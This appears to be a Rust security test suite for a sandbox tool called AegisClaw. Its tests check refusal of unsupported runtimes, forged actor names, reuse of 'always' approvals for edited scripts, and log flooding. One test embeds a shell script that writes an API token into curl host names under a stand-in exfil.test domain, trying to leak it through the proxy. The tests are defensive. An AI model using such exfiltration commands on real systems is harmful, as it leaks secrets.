//! Attacks on the envelope around the sandbox: a configured runtime that does not exist, a
//! manifest platform the runtime cannot honour, an actor forged through the environment, a
//! secret smuggled into the audit log through a host name, an "always" answer for one ad-hoc
//! command stretched over others, a scope nothing enforces, and a program flooding the log.

use super::*;
use rexpect::session::{PtySession, spawn_command};

/// Rewrites one `key: value` line of the home's `config.yaml`, keeping its indentation.
fn set_config(escape: &Escape, key: &str, value: &str) {
    let path = escape.env.home().join("config.yaml");
    let text = std::fs::read_to_string(&path).unwrap();
    let mut found = false;
    let text: String = text
        .lines()
        .map(|line| {
            let indent = line.len() - line.trim_start().len();
            if line.trim_start().starts_with(&format!("{key}:")) {
                found = true;
                format!("{}{key}: {value}\n", &line[..indent])
            } else {
                format!("{line}\n")
            }
        })
        .collect();
    assert!(found, "no `{key}` in {text}");
    std::fs::write(&path, text).unwrap();
}

#[test]
fn configured_runtime_without_an_adapter_refuses_instead_of_running_native() {
    let escape = Escape::new();
    for runtime in ["docker", "gvisor", "kata", "firecracker"] {
        set_config(&escape, "runtime", runtime);
        let outcome = escape.run(&["files.write"], "echo ran > ran.txt; echo RAN");
        assert_eq!(outcome.code(), Some(1), "{runtime}: {}", outcome.stderr());
        assert!(!outcome.stdout().contains("RAN"), "{}", outcome.stdout());
        assert!(!escape.work.join("ran.txt").exists());
        assert!(
            outcome.stderr().contains(&format!(
                "`sandbox.runtime: {runtime}` is configured, but AegisClaw has no `{runtime}` adapter yet"
            )),
            "{}",
            outcome.stderr()
        );
        let refused = outcome.record("run.refused");
        assert_eq!(refused["data"]["stage"], "runtime");
        assert_eq!(refused["decision"], "deny");
        for never in ["policy.decision", "run.launch", "run.finished"] {
            assert!(
                !outcome.has(never),
                "{runtime}: {never} {:#?}",
                outcome.records
            );
        }
        // `doctor` does not call such a config valid.
        let doctor = escape.env.cmd(&["doctor"]).output().unwrap();
        let report = String::from_utf8_lossy(&doctor.stdout);
        assert_eq!(doctor.status.code(), Some(1), "{report}");
        let line = report
            .lines()
            .find(|line| line.contains("Configuration"))
            .unwrap_or_default();
        assert!(line.contains("FAIL") || line.contains("fail"), "{line}");
        assert!(line.contains("every run is refused"), "{line}");
    }
}

#[test]
fn a_container_platform_manifest_is_refused_instead_of_running_natively() {
    for (platform, extra) in [
        ("docker", "image: ghcr.io/example/word-count:1.0.0\n"),
        ("docker-compose", "compose_file: docker-compose.yml\n"),
    ] {
        let escape = Escape::new();
        let dir = escape.env.skill_copy("word-count", "word-count");
        let manifest = dir.join("manifest.yaml");
        let text = std::fs::read_to_string(&manifest).unwrap().replace(
            "platform: native\n",
            &format!("platform: {platform}\n{extra}"),
        );
        // The entrypoint a native run would execute leaves a mark if it runs.
        std::fs::write(&manifest, text).unwrap();
        std::fs::write(dir.join("count.sh"), "echo RAN; echo ran > ran.txt\n").unwrap();
        std::fs::write(dir.join("docker-compose.yml"), "services: {}\n").unwrap();
        for word in ["sign", "install"] {
            let output = escape
                .env
                .cmd(&["skill", word, dir.to_str().unwrap()])
                .output()
                .unwrap();
            assert!(output.status.success(), "{platform} {word}: {output:?}");
        }
        let outcome = escape.run_args(&["sandbox", "run-registered", "word-count"]);
        assert_eq!(outcome.code(), Some(1), "{platform}: {}", outcome.stderr());
        assert!(!outcome.stdout().contains("RAN"), "{}", outcome.stdout());
        assert!(!escape.work.join("ran.txt").exists());
        let reason = format!(
            "the skill's manifest says `platform: {platform}`, which the `native` runtime cannot run"
        );
        assert!(outcome.stderr().contains(&reason), "{}", outcome.stderr());
        let refused = outcome.record("run.refused");
        assert_eq!(refused["data"]["stage"], "runtime");
        assert_eq!(refused["decision"], "deny");
        assert!(
            refused["reason"].as_str().unwrap().starts_with(&reason),
            "{refused:#}"
        );
        for never in ["policy.decision", "run.launch", "run.finished"] {
            assert!(!outcome.has(never), "{platform}: {never}");
        }
    }
}

#[test]
fn a_forged_user_name_is_recorded_only_as_a_claim_after_the_real_user() {
    // `nobody` says it is root, through `$USER` and through `$AEGISCLAW_ACTOR`.
    let nobody = Unprivileged::new();
    for (variable, keep_actor) in [("USER", false), ("AEGISCLAW_ACTOR", true)] {
        let before = nobody.records().len();
        let mut setpriv = std::process::Command::new("setpriv");
        setpriv
            .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
            .arg(assert_cmd::cargo::cargo_bin("aegisclaw"))
            .args(["sandbox", "run", "--", "true"]);
        let mut command = nobody.env.with_env(setpriv);
        if !keep_actor {
            command.env_remove("AEGISCLAW_ACTOR");
        }
        let output = command
            .env(variable, "root")
            .current_dir(&nobody.work)
            .output()
            .unwrap();
        assert!(output.status.success(), "{variable}: {output:?}");
        let records = nobody.records();
        let actors: Vec<&str> = records[before..]
            .iter()
            .map(|record| record["actor"].as_str().unwrap())
            .collect();
        assert!(actors.len() >= 2, "{records:#?}");
        for actor in actors {
            assert_eq!(actor, "cli:nobody/claims:root", "{variable}");
        }
    }
}

#[test]
fn auto_runtime_is_told_to_policy_and_recorded_as_the_runtime_that_runs() {
    // A policy that allows only runs on the native runtime: `auto` must reach it as what will
    // really run, and the records must say so.
    let escape = Escape::new();
    let policy = escape.env.dir.path().join("native-only.rego");
    std::fs::write(
        &policy,
        "package aegisclaw.policy\n\ndefault allow := false\n\nallow if input.runtime == \"native\"\n",
    )
    .unwrap();
    let used = escape
        .env
        .cmd(&["policy", "use", policy.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(used.status.success(), "{used:?}");
    set_config(&escape, "runtime", "auto");
    let outcome = escape.run(&["files.write"], "echo RAN");
    assert_eq!(outcome.code(), Some(0), "{}", outcome.stderr());
    assert_eq!(outcome.stdout(), "RAN\n");
    assert_eq!(outcome.record("policy.decision")["decision"], "allow");
    assert_eq!(
        outcome.record("run.authorised")["data"]["runtime"],
        serde_json::json!({
            "configured": "auto",
            "selected": "native",
            "why": "auto: the strongest runtime of the fallback chain with an adapter",
        })
    );
    assert_eq!(outcome.record("run.launch")["data"]["runtime"], "native");
    assert_eq!(outcome.finished()["data"]["runtime"], "native");
}

#[test]
fn secret_in_a_host_name_sent_to_the_proxy_never_reaches_the_audit_log() {
    let escape = Escape::new();
    let value = "S3cretToken42";
    with_secret(&escape, value);
    // The program spells the secret into host names in several cases and shapes, as a plain
    // request, a tunnel and a malformed target.
    let script = r#"
        lower=$(printf '%s' "$API_TOKEN" | tr A-Z a-z)
        upper=$(printf '%s' "$API_TOKEN" | tr a-z A-Z)
        mixed=$(python3 -c 'import os; t=os.environ["API_TOKEN"]; print("".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(t)))')
        for host in "$API_TOKEN" "$lower" "$upper" "$mixed" "x-$mixed-y.sub"; do
            curl -s -o /dev/null --max-time 5 "http://$host.exfil.test/"
            curl -s -o /dev/null --max-time 5 -p "https://$host.exfil.test/"
        done
        python3 -c 'import os, socket; s = socket.create_connection(("127.0.0.1", 3128)); s.sendall(("GET http://" + os.environ["API_TOKEN"].lower() + "!/ HTTP/1.1\r\n\r\n").encode()); print(s.recv(200)[:12])'
        echo done
    "#;
    let before = escape.audit_lines();
    let outcome = escape.run(
        &["secrets.read:API_TOKEN", "net.outbound:allowed.example.org"],
        script,
    );
    assert_eq!(outcome.code(), Some(0), "{}", outcome.stderr());
    assert!(outcome.stdout().ends_with("done\n"), "{}", outcome.stdout());
    let egress = outcome.egress();
    assert!(egress.len() >= 3, "{egress:#?}");
    assert!(egress.iter().all(|record| record["decision"] == "deny"));
    assert!(
        egress
            .iter()
            .any(|record| record["data"]["host"] == "[REDACTED:API_TOKEN].exfil.test"),
        "{egress:#?}"
    );
    // No spelling of the secret is in any record of the run.
    let log = std::fs::read_to_string(escape.env.home().join("audit/audit.jsonl")).unwrap();
    let run_lines: Vec<&str> = log.lines().skip(before).collect();
    for line in &run_lines {
        assert!(
            !line.to_lowercase().contains(&value.to_lowercase()),
            "the secret is in a record: {line}"
        );
    }
    outcome.finished();
}

/// `sandbox run --scope files.write -- sh -c SCRIPT` in a pseudo-terminal, from `work`.
fn ask_in_terminal(escape: &Escape, script: &str) -> PtySession {
    ask_in_terminal_to_run(escape, &["sh", "-c", script])
}

/// `sandbox run --scope files.write -- ARGV` in a pseudo-terminal, from `work`.
fn ask_in_terminal_to_run(escape: &Escape, argv: &[&str]) -> PtySession {
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_aegisclaw"));
    command
        .args(["sandbox", "run", "--scope", "files.write", "--"])
        .args(argv)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("TERM", "xterm")
        .env("AEGISCLAW_HOME", escape.env.home())
        .env("AEGISCLAW_ACTOR", "tester")
        .env("HOME", escape.env.home().with_file_name("user"))
        .current_dir(&escape.work);
    spawn_command(command, Some(20_000)).unwrap()
}

/// The home's `approvals/grants.json`.
fn grants_json(escape: &Escape) -> serde_json::Value {
    let text = std::fs::read_to_string(escape.env.home().join("approvals/grants.json")).unwrap();
    serde_json::from_str(&text).unwrap()
}

/// Answers "always" at the prompt on screen, and "yes" to remembering it.
fn answer_always(session: &mut PtySession) {
    session.exp_string("\x1b[?25h").unwrap();
    std::thread::sleep(std::time::Duration::from_millis(150));
    for key in ["\x1b[B", "\x1b[B", "\r"] {
        session.send(key).unwrap();
        session.flush().unwrap();
    }
    session.exp_string("Remember `").unwrap();
    session.exp_string("\x1b[?25h").unwrap();
    std::thread::sleep(std::time::Duration::from_millis(150));
    for key in ["y", "\r"] {
        session.send(key).unwrap();
        session.flush().unwrap();
    }
}

#[test]
fn always_allow_for_one_ad_hoc_command_does_not_cover_another() {
    // The standard policy asks before an unsigned command writes files.
    let escape = Escape::with_policy("standard");
    let mut session = ask_in_terminal(&escape, "echo first > first.txt; echo RAN-A");
    session.exp_string("Allow `files.write:").unwrap();
    // The prompt says what "always" covers: this command, here, not every ad-hoc command.
    session
        .exp_string("Always allow this exact command in this directory")
        .unwrap();
    answer_always(&mut session);
    session.exp_string("RAN-A").unwrap();
    session.exp_eof().unwrap();
    let grants = grants_json(&escape);
    let grant = &grants["grants"][0];
    assert_eq!(
        grant["argv"],
        serde_json::json!(["sh", "-c", "echo first > first.txt; echo RAN-A"])
    );
    assert_eq!(
        grant["workdir"],
        escape.work.canonicalize().unwrap().to_str().unwrap()
    );

    // Another ad-hoc command asking for the same scope is asked about again; with nobody
    // to ask, it is refused.
    let other = escape.run_exact(&["files.write"], "echo pwned > other.txt; echo RAN-B");
    assert_eq!(other.code(), Some(1), "{}", other.stdout());
    assert!(!other.stdout().contains("RAN-B"));
    assert!(!escape.work.join("other.txt").exists());
    assert_eq!(other.record("run.refused")["data"]["stage"], "approval");
    assert_eq!(
        other.record("approval.denied")["scope"],
        format!(
            "files.write:{}",
            escape.work.canonicalize().unwrap().display()
        )
    );
    assert!(!other.has("approval.granted"), "{:#?}", other.records);

    // The same command is remembered, from the same directory only.
    let again = escape.run_exact(&["files.write"], "echo first > first.txt; echo RAN-A");
    assert_eq!(again.code(), Some(0), "{}", again.stderr());
    assert_eq!(
        again.record("approval.granted")["reason"],
        "remembered grant"
    );
    let elsewhere = escape.work.join("sub");
    std::fs::create_dir_all(&elsewhere).unwrap();
    let output = escape
        .env
        .cmd(&[
            "sandbox",
            "run",
            "--scope",
            "files.write",
            "--",
            "sh",
            "-c",
            "echo first > first.txt; echo RAN-A",
        ])
        .current_dir(&elsewhere)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
}

#[test]
fn an_always_grant_for_a_directory_an_interpreter_runs_does_not_cover_it_once_edited() {
    // Attack pass 5: `python3 app` runs `app/__main__.py`, but only the interpreter was bound,
    // so the grant kept covering the directory after its code was replaced.
    let escape = Escape::with_policy("standard");
    let app = escape.work.join("app");
    std::fs::create_dir_all(app.join("lib")).unwrap();
    std::fs::write(app.join("__main__.py"), "import lib.x\nprint('RAN-A')\n").unwrap();
    std::fs::write(app.join("lib/x.py"), "").unwrap();
    let argv = ["python3", "app"];
    let mut session = ask_in_terminal_to_run(&escape, &argv);
    session.exp_string("Allow `files.write:").unwrap();
    answer_always(&mut session);
    session.exp_string("RAN-A").unwrap();
    session.exp_eof().unwrap();
    let grants = grants_json(&escape);
    let files = grants["grants"][0]["files"].to_string();
    assert!(
        files.contains(&format!("{}\"", app.canonicalize().unwrap().display())),
        "{files}"
    );
    let args = [
        "sandbox",
        "run",
        "--scope",
        "files.write",
        "--",
        "python3",
        "app",
    ];
    let again = escape.run_args(&args);
    assert_eq!(again.code(), Some(0), "{}", again.stderr());
    assert_eq!(
        again.record("approval.granted")["reason"],
        "remembered grant"
    );
    // A module deep in the tree replaced: another command, refused with nobody to ask.
    std::fs::write(app.join("lib/x.py"), "print('RAN-B')\n").unwrap();
    let edited = escape.run_args(&args);
    assert_eq!(edited.code(), Some(1), "{}", edited.stdout());
    assert!(!edited.stdout().contains("RAN-B"));
    assert_eq!(edited.record("run.refused")["data"]["stage"], "approval");
    assert!(!edited.has("approval.granted"), "{:#?}", edited.records);
}

#[test]
fn an_always_grant_for_a_script_does_not_cover_the_script_once_edited() {
    use std::os::unix::fs::PermissionsExt as _;
    // The standard policy asks before an unsigned command writes files; the script is given
    // to an interpreter, then run directly.
    for argv in [&["sh", "run.sh"][..], &["./run.sh"][..]] {
        let escape = Escape::with_policy("standard");
        let script = escape.work.join("run.sh");
        std::fs::write(
            &script,
            "#!/bin/sh\necho granted > granted.txt; echo RAN-A\n",
        )
        .unwrap();
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
        let mut session = ask_in_terminal_to_run(&escape, argv);
        session.exp_string("Allow `files.write:").unwrap();
        answer_always(&mut session);
        session.exp_string("RAN-A").unwrap();
        session.exp_eof().unwrap();
        let grants = grants_json(&escape);
        let files = &grants["grants"][0]["files"];
        let script_path = script.canonicalize().unwrap();
        assert!(
            files
                .as_array()
                .unwrap()
                .iter()
                .any(|file| file["path"] == script_path.to_str().unwrap()
                    && file["sha256"].as_str().is_some_and(|h| h.len() == 64)),
            "{argv:?}: {files:#}"
        );
        let mut args = vec!["sandbox", "run", "--scope", "files.write", "--"];
        args.extend_from_slice(argv);
        // Unchanged, the grant answers.
        let again = escape.run_args(&args);
        assert_eq!(again.code(), Some(0), "{argv:?}: {}", again.stderr());
        assert_eq!(
            again.record("approval.granted")["reason"],
            "remembered grant"
        );
        // Edited, the same argv in the same directory is another command: asked again, and
        // with nobody to ask, refused before it runs.
        std::fs::write(&script, "#!/bin/sh\necho pwned > pwned.txt; echo RAN-B\n").unwrap();
        let edited = escape.run_args(&args);
        assert_eq!(edited.code(), Some(1), "{argv:?}: {}", edited.stdout());
        assert!(!edited.stdout().contains("RAN-B"));
        assert!(!escape.work.join("pwned.txt").exists());
        assert_eq!(edited.record("run.refused")["data"]["stage"], "approval");
        assert!(edited.has("approval.denied"), "{:#?}", edited.records);
        assert!(!edited.has("approval.granted"), "{:#?}", edited.records);
    }
}

#[test]
fn net_internal_scope_is_refused_not_silently_ignored() {
    let escape = Escape::new();
    let outcome = escape.run(&["net.internal:redis"], "echo RAN");
    assert_eq!(outcome.code(), Some(1), "{}", outcome.stdout());
    assert!(!outcome.stdout().contains("RAN"));
    let reason = "scope `net.internal:redis` is refused: `net.internal` reaches a service on a compose skill's private network, and compose skills are not supported yet";
    assert!(outcome.stderr().contains(reason), "{}", outcome.stderr());
    let refused = outcome.record("run.refused");
    assert_eq!(refused["data"]["stage"], "scope");
    assert_eq!(refused["reason"], reason);
    assert!(!outcome.has("run.launch"));
}

#[test]
fn egress_flood_with_varying_names_is_collapsed_and_capped() {
    let escape = Escape::new();
    set_config(&escape, "max_run_records", "20");
    std::fs::write(
        escape.work.join("flood.py"),
        r#"import socket
def ask(host):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(("CONNECT " + host + ":443 HTTP/1.1\r\n\r\n").encode())
    s.recv(4096)
    s.close()
for _ in range(200):
    ask("same.flood.test")
for i in range(300):
    ask("n%d.flood.test" % i)
print("flooded")
"#,
    )
    .unwrap();
    let before = escape.audit_lines();
    let outcome = escape.run(
        &["files.read", "net.outbound:allowed.example.org"],
        "python3 flood.py",
    );
    assert_eq!(outcome.stdout(), "flooded\n", "{}", outcome.stderr());
    let egress = outcome.egress();
    assert_eq!(egress.len(), 20, "{egress:#?}");
    // 200 identical denials are one record.
    assert_eq!(egress[0]["data"]["host"], "same.flood.test");
    assert_eq!(egress[0]["data"]["count"], 200);
    assert_eq!(egress[1]["data"]["host"], "n0.flood.test");
    assert_eq!(egress[19]["data"]["host"], "n18.flood.test");
    assert!(
        egress[1..]
            .iter()
            .all(|record| record["data"]["count"] == 1)
    );
    // The rest is counted in one record that says the cap was reached.
    let capped = outcome.record("run.records_capped");
    assert_eq!(capped["data"]["cap"], 20);
    assert_eq!(capped["data"]["suppressed"]["net.egress"]["events"], 281);
    assert_eq!(capped["data"]["suppressed"]["net.egress"]["denied"], 281);
    assert_eq!(capped["data"]["suppressed"]["net.egress"]["allowed"], 0);
    // The whole run wrote a bounded handful of lines.
    let lines = escape.audit_lines() - before;
    assert!(lines <= 30, "{lines} lines");
    outcome.finished();
}
